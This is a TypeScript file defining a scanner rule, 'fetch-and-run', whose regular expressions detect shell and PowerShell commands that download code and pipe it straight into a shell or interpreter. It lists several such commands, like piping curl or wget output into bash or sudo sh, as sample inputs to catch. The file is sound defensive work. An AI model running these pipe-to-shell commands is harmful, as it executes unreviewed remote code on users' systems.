import { defineRule } from "../rule.ts";

const SUDO = "(?:sudo(?: -[a-z]{1,2})?[^\\S\\n]{1,3})?(?:env[^\\S\\n]{1,3})?(?:/[a-z/]{1,20}/)?";
const SHELL = "(?:ba|z|da|k|fi|c)?sh(?![a-z0-9_.-])";
const INTERPRETER = "(?:python[\\de.]{0,4}|node|perl|ruby|php|deno|bun|osascript|pwsh)(?![a-z0-9_.])";
/** `bash <(curl …)`, `sh -c "$(curl …)"`. */
const SUBSTITUTION =
  "(?<=(?:sh|source|\\.|eval)[^\\S\\n]{1,3}(?:-[a-z]{1,3}[^\\S\\n]{1,3})?[\"'`]?(?:<\\(|\\$\\()[^\\S\\n]{0,3})(?:curl|wget)(?![a-z_])";
/** The line goes on behind a backslash. */
const CONTINUED = "(?:(?<=\\\\)\\n[^\\n|;]{0,120}){0,4}";
const POWERSHELL = "(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)(?![a-z])";

export default defineRule({
  id: "fetch-and-run",
  family: "fetch-and-run",
  severity: "flag",
  keywords: [
    "curl",
    "wget",
    "fetch",
    "iwr",
    "irm",
    "iex",
    "invoke-webrequest",
    "invoke-restmethod",
    "downloadstring",
  ],
  anchored: true,
  pattern: new RegExp(
    `(?<![a-z0-9_-])(?:curl|wget|fetch)(?![a-z_])[^\\n|;]{1,120}${CONTINUED}\\|&?[^\\S\\n]{0,3}(?:\\\\\\n[^\\S\\n]{0,8})?${SUDO}(?:${SHELL}|${INTERPRETER})|` +
      `${SUBSTITUTION}|(?<![a-z0-9_-])(?:curl|wget)(?![a-z_])[^\\n;&|]{1,100}(?:&&|;)[^\\S\\n]{0,3}` +
      "(?:chmod[^\\n;&|]{1,60}(?:&&|;)[^\\S\\n]{0,3})?(?:sudo[^\\S\\n]{1,3})?(?:ba|z|da)?sh[^\\S\\n]{1,3}[^\\s-]|" +
      `(?<![a-z])${POWERSHELL}[^\\n|]{1,120}\\|[^\\S\\n]{0,3}(?:iex|invoke-expression)|(?<![a-z])iex[^\\S\\n]{0,3}\\([^\\n]{0,60}?${POWERSHELL}`,
    "g",
  ),
  message: "a command that runs code it downloads",
  catches: [
    "curl https://example.com/x | bash",
    "wget -qO- https://example.com/i.sh | sudo sh",
    "bash <(curl -s https://example.com/x)",
    'sh -c "$(curl -fsSL https://example.com/x)"',
    "iwr https://example.com/x.ps1 | iex",
    "curl https://example.com/a.py | python3",
    "curl https://example.com/x \\\n  | sh",
    "curl -fsSL \\\n  https://example.com/x \\\n  | \\\n  sh",
  ],
  spares: [
    "curl https://example.com/data.json | jq .name",
    "curl -O https://example.com/file.tar.gz",
    "until $(curl --fail $url); do sleep 1; done",
    "wget https://example.com/x | shasum -a 256",
    "use fetch() in the browser",
    "curl https://example.com/x \\\n  | jq .name",
    "curl https://example.com/x\n| sh | the shell |",
  ],
});
